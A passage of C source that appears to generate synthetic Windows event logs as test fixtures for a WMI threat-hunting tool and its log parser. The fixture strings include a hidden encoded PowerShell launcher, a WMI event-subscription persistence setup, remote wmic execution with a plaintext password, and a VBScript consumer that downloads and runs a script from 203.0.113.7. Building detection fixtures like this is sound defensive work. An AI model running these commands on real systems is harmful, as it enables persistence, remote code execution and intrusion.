                        {"ScriptBlockText", S(text), false},
                        {"ScriptBlockId", S(sbid), false},
                        {"Path", S(""), false}};
    evtxgen_event e = ev_base(PROV_PS, GUID_PS, CH_PS, 4104, 1, level, 2, 15, 0, 5512, 6140, USER_SID);
    e.activity_id = "{6F2E4A10-3C5B-0002-8A1D-6E2F3C5B0002}";
    e.data = d;
    e.ndata = NDATA(d);
    return evtxgen_add_event(g, &e);
}

static uint64_t ps4103(evtxgen *g, const char *cmdlet, const char *payload)
{
    char ctx[1024];
    snprintf(ctx, sizeof ctx,
             "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = "
             "5.1.19041.3803\r\n        Host ID = 3e1f0c2a-7b6d-4f0e-9a51-2c8d4e6f7a10\r\n        Host Application = "
             "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\n        Engine Version = "
             "5.1.19041.3803\r\n        Runspace ID = 0d9c1b2a-3e4f-4a5b-8c6d-7e8f9a0b1c2d\r\n        Pipeline ID = "
             "12\r\n        Command Name = %s\r\n        Command Type = Cmdlet\r\n        Script Name = \r\n        "
             "Command Path = \r\n        Sequence Number = 41\r\n        User = CORP\\jdoe\r\n        Connected User = "
             "\r\n        Shell ID = Microsoft.PowerShell\r\n",
             cmdlet);
    evtxgen_data d[] = {{"ContextInfo", S(ctx), false}, {"UserData", S(""), false}, {"Payload", S(payload), false}};
    evtxgen_event e = ev_base(PROV_PS, GUID_PS, CH_PS, 4103, 1, 4, 106, 20, 0, 5512, 6140, USER_SID);
    e.activity_id = "{6F2E4A10-3C5B-0002-8A1D-6E2F3C5B0003}";
    e.data = d;
    e.ndata = NDATA(d);
    return evtxgen_add_event(g, &e);
}

/* WMI-Activity: UserData, strings stored with their NUL as Windows does. */
static uint64_t wmi_act(evtxgen *g, uint16_t id, uint8_t level, const char *elem, const evtxgen_data *d, size_t n,
                        evtxgen_layout layout)
{
    evtxgen_event e = ev_base(PROV_WMI, GUID_WMI, CH_WMI, id, 0, level, 0, 0, 0x4000000000000000ull, 3012, 3932,
                              "S-1-5-18");
    e.layout = layout;
    e.ud_element = elem;
    e.ud_xmlns = XMLNS_WMI;
    e.data = d;
    e.ndata = n;
    return evtxgen_add_event(g, &e);
}

#define CREATOR_SID "{1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 199, 67, 0, 216, 124, 112, 85, 200, 212, 88, 206, 1, 245, 3, 0, 0}"
#define WMI_FILTER_MOF                                                                                             \
    "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = " CREATOR_SID                            \
    ";\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"WmiHuntFilter\";\n\tQuery = \"SELECT * FROM "            \
    "__InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND " \
    "TargetInstance.SystemUpTime >= 240\";\n\tQueryLanguage = \"WQL\";\n};\n"

static uint64_t wmi_5861(evtxgen *g, const char *ess, const char *consumer, const char *cause, evtxgen_layout layout)
{
    evtxgen_data d[] = {{"Namespace", SZ("//./root/subscription"), false},
                        {"ESS", SZ(ess), false},
                        {"CONSUMER", SZ(consumer), false},
                        {"PossibleCause", SZ(cause), false}};
    return wmi_act(g, 5861, 0, "Operation_ESStoConsumerBinding", d, NDATA(d), layout);
}

static uint64_t classic800(evtxgen *g, const char *const *items, size_t n)
{
    evtxgen_data d[] = {{NULL, evtxgen_v_strarray(g, items, n), false}};
    evtxgen_event e = ev_base("PowerShell", NULL, "Windows PowerShell", 800, 0, 4, 8, 0, 0x80000000000000ull, 0, 0,
                              NULL);
    e.qualifiers = 0;
    e.layout = EVTXGEN_L_CLASSIC;
    e.data = d;
    e.ndata = NDATA(d);
    return evtxgen_add_event(g, &e);
}

#define WMIPRVSE "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
#define WMIPRVSE_CMD "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
#define SVCHOST "C:\\Windows\\System32\\svchost.exe"
#define SVCHOST_DCOM "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define WMIC "C:\\Windows\\System32\\wbem\\WMIC.exe"
#define PS_EXE "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define WMIC_LOCAL "wmic process call create \"notepad.exe\""
#define WMIC_NODE "wmic /node:10.20.30.41 /user:CORP\\admin /password:Winter2024! process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\""
#define ENC_PS "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
#define SCRCONS "C:\\Windows\\System32\\wbem\\scrcons.exe"
#define MOFCOMP "C:\\Windows\\System32\\wbem\\mofcomp.exe"
#define MOF_CMD "mofcomp.exe C:\\Users\\Public\\Downloads\\update.mof"
#define WSMPROVHOST "C:\\Windows\\System32\\wsmprovhost.exe"

int evtxgen_scenario_wmi(evtxgen *g, unsigned flags)
{
    bool all = !(flags & EVTXGEN_SCN_LIBEVTX);
    // WMI-Activity 5857-5861.
    {
        evtxgen_data d[] = {{"ProviderName", SZ("CIMWin32"), false},
                            {"Code", HEX32(0), false},
                            {"HostProcess", SZ("wmiprvse.exe"), false},
                            {"ProcessID", U32(4800), false},
                            {"ProviderPath", SZ("%systemroot%\\system32\\wbem\\cimwin32.dll"), false}};
        wmi_act(g, 5857, 0, "Operation_StartedOperational", d, NDATA(d), EVTXGEN_L_USERDATA);
        evtxgen_data d2[] = {{"ProviderName", SZ("ActiveScriptEventConsumer"), false},
                             {"Code", HEX32(0), false},
                             {"HostProcess", SZ("scrcons.exe"), false},
                             {"ProcessID", U32(6220), false},
                             {"ProviderPath", SZ("%SystemRoot%\\system32\\wbem\\scrcons.exe"), false}};
        wmi_act(g, 5857, 0, "Operation_StartedOperational", d2, NDATA(d2), EVTXGEN_L_USERDATA);
    }
    {
        evtxgen_data d[] = {{"Id", SZ("{00000000-0000-0000-0000-000000000000}"), false},
                            {"ClientMachine", SZ("WKS-FIN-042"), false},
                            {"User", SZ(USER), false},
                            {"ClientProcessId", U32(7312), false},
                            {"Component", SZ("Unknown"), false},
                            {"Operation", SZ("Start IWbemServices::ExecMethod - ROOT\\CIMV2 : Win32_Process::Create"), false},
                            {"ResultCode", HEX32(0x80041003), false},
                            {"PossibleCause", SZ("Unknown"), false}};
        wmi_act(g, 5858, 2, "Operation_ClientFailure", d, NDATA(d), EVTXGEN_L_USERDATA);
    }
    {
        evtxgen_data d[] = {{"NamespaceName", SZ("//./root/CIMV2"), false},
                            {"Query", SZ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"), false},
                            {"User", SZ("S-1-5-32-544"), false},
                            {"Processid", U32(3012), false},
                            {"Provider", SZ("WinMgmt"), false},
                            {"queryid", U32(0), false},
                            {"PossibleCause", SZ("Permanent"), false}};
        wmi_act(g, 5859, 0, "Operation_EssStarted", d, NDATA(d), EVTXGEN_L_USERDATA);
    }
    {
        evtxgen_data d[] = {{"NamespaceName", SZ("//./root/CIMV2"), false},
                            {"Query", SZ("SELECT * FROM Win32_ProcessStartTrace"), false},
                            {"User", SZ(USER), false},
                            {"Processid", U32(6888), false},
                            {"ClientMachine", SZ("WKS-FIN-042"), false},
                            {"PossibleCause", SZ("Temporary"), false}};
        wmi_act(g, 5860, 0, "Operation_TemporaryEssStarted", d, NDATA(d), EVTXGEN_L_USERDATA);
    }
    wmi_5861(g, "SCM Event Log Filter", "NTEventLogEventConsumer=\"SCM Event Log Consumer\"",
             "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, "
             "32, 2, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\tQuery = "
             "\"select * from MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of "
             "NTEventLogEventConsumer\n{\n\tCategory = 0;\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, "
             "0, 0};\n\tEventType = 1;\n\tName = \"SCM Event Log Consumer\";\n\tNameOfUserSIDProperty = "
             "\"sid\";\n\tSourceName = \"Service Control Manager\";\n};\n",
             EVTXGEN_L_USERDATA);
    wmi_5861(g, "WmiHuntFilter", "CommandLineEventConsumer=\"WmiHuntConsumer\"",
             WMI_FILTER_MOF "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "
                            "\"C:\\\\Windows\\\\System32\\\\cmd.exe /c " ENC_PS "\";\n\tCreatorSID = " CREATOR_SID
                            ";\n\tName = \"WmiHuntConsumer\";\n};\n",
             EVTXGEN_L_USERDATA);
    wmi_5861(g, "WmiHuntFilter", "ActiveScriptEventConsumer=\"WmiHuntScript\"",
             WMI_FILTER_MOF "Perm. Consumer: \ninstance of ActiveScriptEventConsumer\n{\n\tCreatorSID = " CREATOR_SID
                            ";\n\tName = \"WmiHuntScript\";\n\tScriptingEngine = \"VBScript\";\n\tScriptText = \"Set "
                            "s = CreateObject(\\\"WScript.Shell\\\")\\ns.Run \\\"powershell.exe -NoP -W Hidden -C "
                            "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\\\", "
                            "0\";\n};\n",
             EVTXGEN_L_USERDATA);

    // Sysmon 1: every WMI-related process start wmihunt hunts.
    sysmon1(g, WMIC, WMIC_LOCAL, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", 7312, 6604, USER);
    sysmon1(g, WMIC, WMIC_NODE, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", 7420, 6604, USER);
    sysmon1(g, PS_EXE, ENC_PS, WMIPRVSE, WMIPRVSE_CMD, 8116, 5304, "NT AUTHORITY\\SYSTEM");
    sysmon1(g, SCRCONS, "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", SVCHOST, SVCHOST_DCOM, 6220, 812,
            "NT AUTHORITY\\SYSTEM");
    sysmon1(g, CMD, "cmd.exe /c " ENC_PS, SCRCONS, "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", 6388, 6220,
            "NT AUTHORITY\\SYSTEM");
    sysmon1(g, MOFCOMP, MOF_CMD, CMD, "\"C:\\Windows\\System32\\cmd.exe\"", 7700, 6604, USER);
    sysmon1(g, WSMPROVHOST, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", SVCHOST, SVCHOST_DCOM, 7904, 812,
            USER);
    sysmon1(g, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", WSMPROVHOST,
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", 8012, 7904, USER);
    // Sysmon 19/20/21 for the subscription of the malicious 5861.
    sysmon_wmi(g, 19, "Created", " \"root\\\\cimv2\"", " \"WmiHuntFilter\"",
               " \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
               "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240\"");
    sysmon_wmi(g, 20, "Created", " \"WmiHuntConsumer\"", "Command Line",
               " \"C:\\\\Windows\\\\System32\\\\cmd.exe /c " ENC_PS "\"");
    sysmon_wmi(g, 21, "Created", " \"CommandLineEventConsumer.Name=\\\"WmiHuntConsumer\\\"\"",
               " \"__EventFilter.Name=\\\"WmiHuntFilter\\\"\"", NULL);
    // Security 4688 for the same starts.
    sec4688(g, WMIC, WMIC_LOCAL, CMD, 0x1c90, 0x19cc, EVTXGEN_L_EVENTDATA);
    sec4688(g, WMIC, WMIC_NODE, CMD, 0x1cfc, 0x19cc, EVTXGEN_L_EVENTDATA);
    sec4688(g, PS_EXE, ENC_PS, WMIPRVSE, 0x1fb4, 0x14b8, EVTXGEN_L_EVENTDATA);
    sec4688(g, SCRCONS, "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", SVCHOST, 0x184c, 0x32c,
            EVTXGEN_L_EVENTDATA);
    sec4688(g, MOFCOMP, MOF_CMD, CMD, 0x1e14, 0x19cc, EVTXGEN_L_EVENTDATA);
    sec4688(g, WSMPROVHOST, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", SVCHOST, 0x1ee0, 0x32c,
            EVTXGEN_L_EVENTDATA);
    // PowerShell 4104/4103 with each WMI cmdlet.
    ps4104(g, "Invoke-WmiMethod -ComputerName 10.20.30.41 -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c whoami'",
           "5b0f8c1e-2d3a-4b5c-9d6e-7f8091a2b3c4", 3);
    ps4104(g, "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='notepad.exe'}",
           "6c1f9d2e-3e4b-4c6d-8e7f-8091a2b3c4d5", 5);
    ps4104(g, "Get-WmiObject -Namespace root\\subscription -Class __EventConsumer | Select-Object Name, CommandLineTemplate",
           "7d2a0e3f-4f5c-4d7e-9f80-91a2b3c4d5e6", 5);
    ps4104(g, "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='WmiHuntFilter'; "
              "EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query=\"SELECT * FROM __InstanceModificationEvent "
              "WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}\r\n$c = Set-WmiInstance "
              "-Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='WmiHuntConsumer'; "
              "CommandLineTemplate='cmd.exe /c calc.exe'}\r\nSet-WmiInstance -Namespace root\\subscription -Class "
              "__FilterToConsumerBinding -Arguments @{Filter=$f; Consumer=$c}",
           "8e3b1f40-5a6d-4e8f-a091-a2b3c4d5e6f7", 3);
    ps4104(g, "Register-WmiEvent -Query \"SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "
              "'Win32_Process'\" -SourceIdentifier ProcWatch -Action { Start-Process calc.exe }",
           "9f4c2051-6b7e-4f90-b1a2-b3c4d5e6f708", 3);
    ps4103(g, "Invoke-CimMethod",
           "CommandInvocation(Invoke-CimMethod): \"Invoke-CimMethod\"\r\nParameterBinding(Invoke-CimMethod): "
           "name=\"ClassName\"; value=\"Win32_Process\"\r\nParameterBinding(Invoke-CimMethod): name=\"MethodName\"; "
           "value=\"Create\"\r\nParameterBinding(Invoke-CimMethod): name=\"Arguments\"; "
           "value=\"System.Collections.Hashtable\"\r\n");
    ps4103(g, "Set-WmiInstance",
           "CommandInvocation(Set-WmiInstance): \"Set-WmiInstance\"\r\nParameterBinding(Set-WmiInstance): "
           "name=\"Namespace\"; value=\"root\\subscription\"\r\nParameterBinding(Set-WmiInstance): name=\"Class\"; "
           "value=\"CommandLineEventConsumer\"\r\nParameterBinding(Set-WmiInstance): name=\"Arguments\"; "
           "value=\"System.Collections.Hashtable\"\r\n");
    {
        const char *items[] = {"Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments $a",
                               "\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=43\r\n\r\n\tUserId=CORP\\jdoe\r\n\tHostName=ConsoleHost",
                               "CommandInvocation(Set-WmiInstance): \"Set-WmiInstance\"\r\n"};
        classic800(g, items, 3);
    }
    // Forwarded (template-less) copies, as a WEC collector stores them.
    if (all) {
        sec4688(g, WMIC, WMIC_NODE, CMD, 0x2a10, 0x2204, EVTXGEN_L_TEMPLATELESS);
        wmi_5861(g, "WmiHuntFilter", "CommandLineEventConsumer=\"WmiHuntConsumer\"", "Binding EventFilter: (forwarded)",
                 EVTXGEN_L_TEMPLATELESS);
    }
    return g->failed ? -1 : 0;
}

#define PROV_TYPES "WmiHunt-Evtxgen-Types"
#define GUID_TYPES "{0F0E0D0C-0B0A-4908-8706-050403020100}"
#define CH_TYPES "WmiHunt/Types"

static evtxgen_event types_base(uint16_t id)
{
    evtxgen_event e = ev_base(PROV_TYPES, GUID_TYPES, CH_TYPES, id, 1, 4, 7, 0, 0x8000000000000001ull, 1234, 5678,
                              "S-1-5-18");
    e.computer = "TYPES-HOST";
    return e;
}

/* Every substitution value type of notes §6, irregular ones included. */
static int types_scalars(evtxgen *g, int variant, bool all)
{
    static const uint8_t bin[] = {0x00, 0x01, 0x7f, 0x80, 0xab, 0xff};
    bool v2 = variant != 0;
    evtxgen_data d[] = {
        {"UnicodeAstral", S("clef \xf0\x9d\x84\x9e"), false},
        {"Null", evtxgen_v_null(g, 0), false},
        {"NullWithBytes", evtxgen_v_null(g, 4), false},
        {"String", S(v2 ? "second record, same template" : "plain ASCII"), false},
        {"StringNul", SZ("stored with its NUL"), false},
        {"StringEmpty", S(""), false},
        {"StringUnicode", S("Gr\xc3\xbc\xc3\x9f" "e \xe2\x80\x93 \xe2\x98\x83 \xe4\xb8\xad\xe6\x96\x87"), false},
        {"StringXml", S("<tag attr=\"x\">&amp; 'q'</tag>"), false},
        {"StringCrLf", S("line1\r\nline2\n\tindented"), false},
        {"Ansi", evtxgen_v_ansi(g, "ANSI caf\xe9 \x80 \x9c"), false},
        {"Int8", evtxgen_v_int(g, EVTXGEN_T_I8, v2 ? 5 : -128), false},
        {"UInt8", evtxgen_v_uint(g, EVTXGEN_T_U8, 255), false},
        {"Int16", evtxgen_v_int(g, EVTXGEN_T_I16, -32768), false},
        {"UInt16", evtxgen_v_uint(g, EVTXGEN_T_U16, 65535), false},
        {"Int32", evtxgen_v_int(g, EVTXGEN_T_I32, INT32_MIN), false},
        {"UInt32", evtxgen_v_uint(g, EVTXGEN_T_U32, UINT32_MAX), false},
        {"Int64", evtxgen_v_int(g, EVTXGEN_T_I64, v2 ? -1 : INT64_MIN), false},
        {"UInt64", evtxgen_v_uint(g, EVTXGEN_T_U64, UINT64_MAX), false},
        {"Float", evtxgen_v_float(g, v2 ? 1.5f : -0.25f), false},
        {"Double", evtxgen_v_double(g, v2 ? 1234.5 : 3.140625), false},
        {"BoolTrue", evtxgen_v_bool(g, 1), false},
        {"BoolFalse", evtxgen_v_bool(g, 0), false},
        {"BoolIrregular", evtxgen_v_bool(g, 2), false},
        {"BoolAllOnes", evtxgen_v_bool(g, 0xFFFFFFFFu), false},
        {"Binary", evtxgen_v_bin(g, bin, sizeof bin), false},
        {"BinaryEmpty", evtxgen_v_bin(g, bin, 0), false},
        {"Guid", evtxgen_v_guid(g, "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"), false},
        {"SizeT32", evtxgen_v_sizet(g, 0x14, 4), false},
        {"SizeT64", evtxgen_v_sizet(g, 0x1a2b3c4d5eull, 8), false},
        {"FileTime", evtxgen_v_filetime(g, filetime_from(2021, 10, 20, 14, 39, 26) + 4277303), false},
        {"SysTime", evtxgen_v_systime(g, 2024, 11, 14, 16, 15, 56, 828), false},
        {"SidSystem", evtxgen_v_sid(g, "S-1-5-18"), false},
        {"SidDomain", evtxgen_v_sid(g, USER_SID), false},
        {"SidBigAuthority", evtxgen_v_sid(g, "S-1-281474976710655-7"), false},
        {"HexInt32", HEX32(0x3e7), false},
        {"HexInt32Zero", HEX32(0), false},
        {"HexInt64", HEX64(0x8000000000000000ull), false},
    };
    evtxgen_event e = types_base(1);
    // libevtx 20181227 fails a record with a NULL value in a normal
    // substitution, and decodes surrogate pairs wrongly (tests/README.md):
    // the first three items are left out of the --libevtx variant.
    e.data = all ? d : d + 3;
    e.ndata = all ? NDATA(d) : NDATA(d) - 3;
    return evtxgen_add_event(g, &e) ? 0 : -1;
}

static int types_arrays(evtxgen *g)
{
    const char *strs[] = {"first", "second item", "", "fourth \xe2\x98\x83"};
    const int64_t i32[] = {-1, 0, 2147483647};
    const int64_t u16[] = {1, 65535};
    const int64_t u8[] = {0, 7, 255};
    const int64_t i64[] = {INT64_MIN, 42};
    const int64_t u64[] = {0, 18446744073709551615ull > 0 ? -1 : 0};
    const int64_t h32[] = {0x10, 0xdeadbeef};
    const int64_t h64[] = {0x3e7, 0};
    evtxgen_data d[] = {
        {"StrArray", evtxgen_v_strarray(g, strs, 4), false},
        {"StrArrayEmpty", evtxgen_v_strarray(g, strs, 0), false},
        {"Int32Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_I32, i32, 3), false},
        {"UInt16Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_U16, u16, 2), false},
        {"UInt8Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_U8, u8, 3), false},
        {"Int64Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_I64, i64, 2), false},
        {"UInt64Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_U64, u64, 2), false},
        {"HexInt32Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_HEX32, h32, 2), false},
        {"HexInt64Array", evtxgen_v_intarray(g, EVTXGEN_T_ARRAY | EVTXGEN_T_HEX64, h64, 2), false},
        {"After", S("after the arrays"), false}};
    evtxgen_event e = types_base(2);
    e.data = d;
    e.ndata = NDATA(d);
    return evtxgen_add_event(g, &e) ? 0 : -1;
}

/* UserData with optional substitutions and nested BinXml values: direct
 * elements (no dependency id) and a template instance. */
static int types_nested(evtxgen *g, bool all)
{
    evtxgen_node *box = evtxgen_elem(g, NULL, "Box");
    evtxgen_text(g, evtxgen_attr(g, box, "kind"), "direct");
    evtxgen_text(g, evtxgen_elem(g, box, "Item"), "one");
    evtxgen_text(g, evtxgen_elem(g, box, "Item"), "two");
    evtxgen_node *deep = evtxgen_elem(g, evtxgen_elem(g, box, "Deeper"), "Leaf");
    evtxgen_text(g, deep, "deep leaf");
    // No fragment header before direct elements in a value, as CAPI2 writes.
    const evtxgen_frag *direct = evtxgen_frag_elem(g, false, box);

    evtxgen_node *pair = evtxgen_elem(g, NULL, "Pair");
    evtxgen_subst(g, evtxgen_elem(g, pair, "Key"), 0, EVTXGEN_T_STR, false);
    evtxgen_subst(g, evtxgen_elem(g, pair, "Value"), 1, EVTXGEN_T_U32, false);
    const evtxgen_val *pv[] = {S("answer"), U32(42)};
    const evtxgen_frag *inst = evtxgen_frag_tmpl(g, false, evtxgen_template(g, pair), pv, 2);

    evtxgen_data d[] = {{"OptPresent", U32(7), true},
                        {"OptNull", evtxgen_v_null(g, 0), true},
                        {"NormalNull", all ? evtxgen_v_null(g, 0) : S(""), false},
                        {"Direct", evtxgen_v_binxml(g, direct), false},
                        {"Instance", evtxgen_v_binxml(g, inst), false},
                        {"Tail", S("tail"), false}};
    evtxgen_event e = types_base(3);
    e.layout = EVTXGEN_L_USERDATA;
    e.ud_element = "Nested";
    e.ud_xmlns = "urn:wmihunt:evtxgen";
    e.data = d;
    e.ndata = NDATA(d);
    return evtxgen_add_event(g, &e) ? 0 : -1;
}

/* Text tokens: value text split over tokens, CDATA, character and entity
 * references, a processing instruction, in element content. */
static int types_text(evtxgen *g, bool pi_prologue, bool all)
{
    evtxgen_node *r = evtxgen_elem(g, NULL, "Features");
    evtxgen_text(g, evtxgen_attr(g, r, "xmlns"), "urn:wmihunt:evtxgen");
    evtxgen_node *n = evtxgen_elem(g, r, "Split");
    evtxgen_text(g, n, "split ");
    evtxgen_text(g, n, "over ");
    evtxgen_text(g, n, "tokens");
    if (all) {
        // libevtx 20181227 prints a CDATA section without its element (text
        // beside it is lost) and rejects every character reference.
        evtxgen_cdata(g, evtxgen_elem(g, r, "CData"), "<raw> & \"data\"");
        n = evtxgen_elem(g, r, "CharRef");
        evtxgen_text(g, n, "A");
        evtxgen_charref(g, n, 'B');
        evtxgen_text(g, n, "C ");
        evtxgen_charref(g, n, 0x263A);
    }
    n = evtxgen_elem(g, r, "EntityRef");
    evtxgen_text(g, n, "a ");
    evtxgen_entref(g, n, "lt");
    evtxgen_text(g, n, " b ");
    evtxgen_entref(g, n, "amp");
    evtxgen_text(g, n, " c ");
    evtxgen_entref(g, n, "quot");
    n = evtxgen_elem(g, r, "WithPI");
    evtxgen_pi(g, n, "wmihunt-pi", "some data");
    evtxgen_text(g, n, "after the PI");
    evtxgen_subst(g, evtxgen_elem(g, r, "Sub"), 0, EVTXGEN_T_STR, false);
    const evtxgen_val *v[] = {S("substituted")};
    const evtxgen_frag *inner = evtxgen_frag_tmpl(g, false, evtxgen_template(g, r), v, 1);
    evtxgen_event e = types_base(4);
    e.layout = EVTXGEN_L_USERDATA;
    const evtxgen_frag *f = evtxgen_event_frag(g, &e, inner);
    if (pi_prologue) f = evtxgen_frag_with_pi(g, f, "xml-stylesheet", "type=\"text/xsl\" href=\"event.xsl\"");
    return evtxgen_add_frag(g, f, 0) ? 0 : -1;
}

/* References inside attribute values: the Data names carry an entity and
 * a character reference (libevtx 20181227 fails on 0x49 there, notes §4). */
static int types_attr_refs(evtxgen *g)
{
    evtxgen_node *r = evtxgen_elem(g, NULL, "EventData");
    evtxgen_node *d = evtxgen_elem(g, r, "Data");
    evtxgen_node *a = evtxgen_attr(g, d, "Name");
    evtxgen_text(g, a, "Quote");
    evtxgen_entref(g, a, "quot");
    evtxgen_text(g, a, "d");
    evtxgen_subst(g, d, 0, EVTXGEN_T_STR, false);
    d = evtxgen_elem(g, r, "Data");
    a = evtxgen_attr(g, d, "Name");
    evtxgen_text(g, a, "Char");
    evtxgen_charref(g, a, 'A');
    evtxgen_subst(g, d, 1, EVTXGEN_T_U32, false);
    const evtxgen_val *v[] = {S("entity in the name"), U32(65)};
    const evtxgen_frag *inner = evtxgen_frag_tmpl(g, true, evtxgen_template(g, r), v, 2);
    evtxgen_event e = types_base(5);
    return evtxgen_add_frag(g, evtxgen_event_frag(g, &e, inner), 0) ? 0 : -1;
}

static int types_templateless(evtxgen *g)
{
    const char *strs[] = {"x", "y"};
    evtxgen_data d[] = {{"Text", S("forwarded <value> & more"), false},
                        {"Number", U32(4294967295u), false},
                        {"Hex", HEX64(0x3e7), false},
                        {"Empty", S(""), false},
                        {"List", evtxgen_v_strarray(g, strs, 2), false}};
    evtxgen_event e = types_base(6);
    e.layout = EVTXGEN_L_TEMPLATELESS;
    e.qualifiers = 16384;
    e.computer = "WEC-COLLECTOR";
    e.data = d;
    e.ndata = NDATA(d);
    if (!evtxgen_add_event(g, &e)) return -1;
    evtxgen_data u[] = {{"Namespace", S("//./root/subscription"), false}, {"ESS", S("WmiHuntFilter"), false}};
    evtxgen_event e2 = types_base(7);
    e2.layout = EVTXGEN_L_TEMPLATELESS;
    e2.ud_element = "Operation_ESStoConsumerBinding";
    e2.ud_xmlns = XMLNS_WMI;
    e2.data = u;
    e2.ndata = NDATA(u);
    return evtxgen_add_event(g, &e2) ? 0 : -1;
}

int evtxgen_scenario_types(evtxgen *g, unsigned flags)
{
    bool all = !(flags & EVTXGEN_SCN_LIBEVTX);
    // libevtx 20181227 does not read a PI prologue (token 0x0a after the
    // fragment header): that record is left out of the --libevtx variant.
    if (types_scalars(g, 0, all) || types_arrays(g) || types_nested(g, all) || types_text(g, false, all) ||
        (all && types_text(g, true, all)) || types_scalars(g, 1, all))
        return -1;
    // Names and templates again after a chunk change: defined anew there.
    for (uint32_t i = 0; i < 3; i++)
        if (types_scalars(g, 1, all)) return -1;
    if (all && (types_attr_refs(g) || types_templateless(g))) return -1;
    return g->failed ? -1 : 0;
}

/* Base of every damaged file: 3 chunks of 5 records, repeated shapes so
 * that later records refer to templates stored by earlier ones. */
int evtxgen_scenario_damaged(evtxgen *g)
{
    for (uint32_t i = 0; i < 15 && !g->failed; i++) {
        char cmd[160];
        snprintf(cmd, sizeof cmd, "wmic /node:10.20.30.%u process call create \"cmd.exe /c echo %u\"", 40 + i, i);
        switch (i % 5) {
        case 0: case 2: sysmon1(g, WMIC, cmd, CMD, "cmd.exe", 7000 + i, 6604, USER); break;
        case 1: case 3: sec4688(g, WMIC, cmd, CMD, 0x1c00 + i, 0x19cc, EVTXGEN_L_EVENTDATA); break;
        default:
            wmi_5861(g, "WmiHuntFilter", "CommandLineEventConsumer=\"WmiHuntConsumer\"", cmd, EVTXGEN_L_USERDATA);
        }
    }
    return g->failed ? -1 : 0;
}

/* Synthetic mix for benchmarks: deterministic, varied lengths. */
int evtxgen_scenario_big(evtxgen *g, unsigned mb)
{
    // Chunks needed for mb MiB; stop once the last one is nearly full (the
    // largest record here is well under 8 KiB).
    uint64_t target = (uint64_t)(mb ? mb : 1) << 20;
    uint32_t want = (uint32_t)((target - EVTXGEN_HEADER_SIZE + EVTXGEN_CHUNK_SIZE - 1) / EVTXGEN_CHUNK_SIZE);
    for (uint32_t i = 0; !g->failed; i++) {
        if (g->nchunks >= want) break;
        if (g->nchunks == want - 1 && g->ck_open && g->ck.pos > EVTXGEN_CHUNK_SIZE - 8192) break;
        char cmd[2200];
        int n = snprintf(cmd, sizeof cmd, "cmd.exe /c echo record %u ", i);
        for (uint32_t k = 0; k < (i * 37) % 60 && n < 2000; k++) n += snprintf(cmd + n, sizeof cmd - (size_t)n, "x%u", k);
        switch (i % 6) {
        case 0: sysmon1(g, WMIC, cmd, CMD, "cmd.exe", 4000 + i % 5000, 6604, USER); break;
        case 1: sec4688(g, CMD, cmd, WMIPRVSE, 0x1000 + i % 4096, 0x14b8, EVTXGEN_L_EVENTDATA); break;
        case 2: wmi_5861(g, "WmiHuntFilter", "CommandLineEventConsumer=\"WmiHuntConsumer\"", cmd, EVTXGEN_L_USERDATA); break;
        case 3: ps4104(g, cmd, "5b0f8c1e-2d3a-4b5c-9d6e-7f8091a2b3c4", 5); break;
